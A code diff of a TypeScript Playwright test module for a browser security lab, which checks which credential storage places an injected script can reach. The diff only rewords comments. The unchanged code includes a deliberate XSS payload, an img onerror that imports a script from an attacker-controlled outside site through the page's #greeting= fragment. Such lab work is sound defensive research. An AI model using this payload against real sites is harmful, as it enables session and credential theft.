@@ -1,11 +1,11 @@
-// The places where the lab's page can keep a credential, the questions about each, and what answers them in a browser.
+// The places where the lab's page can keep a credential, the questions about each, and the code that answers them in a browser.
 import type { BrowserContext } from 'playwright-core';
 import type { Attacker } from './attacker.js';
 import { addressOf, isLoggedIn, logIn, openPage, type Place, username } from './storage-page.js';
 
 export type PlaceName = keyof typeof places;
 
-/** Modes that any instance can check and that can log out for good, so that what is seen is the browser's doing. */
+/** Modes that any instance can check and that can log out for good, so that the observed effects come from the browser. */
 export const places = {
   'HttpOnly cookie (session)': { mode: 'session-redis', place: 'cookie' },
   'HttpOnly cookie (token)': { mode: 'jwt-denylist', place: 'cookie' },
@@ -36,7 +36,7 @@ export const questions = {
   afterBrowser: 'The log-in outlives the browser',
 } as const;
 
-/** What an injected script can do on the lab's page while a user is logged in. */
+/** The abilities of an injected script on the lab's page while a user is logged in. */
 export async function observeInjection(
   browser: BrowserContext,
   lab: string,
@@ -49,7 +49,7 @@ export async function observeInjection(
   const credential = token ?? (await browser.cookies(lab)).find(({ httpOnly }) => httpOnly)?.value;
   if (!credential) throw new Error('The log-in gave no credential');
 
-  // The page's hole: what follows #greeting= becomes part of it, as HTML.
+  // The page's vulnerability: the text after #greeting= becomes part of it, as HTML.
   const markup = `<img src="" onerror="import('${attacker.otherSite}/injected.js')">`;
   await page.goto(`${addressOf(lab, place)}#greeting=${encodeURIComponent(markup)}`);
   const [toOtherSite, toOtherPort] = await attacker.collect(2);
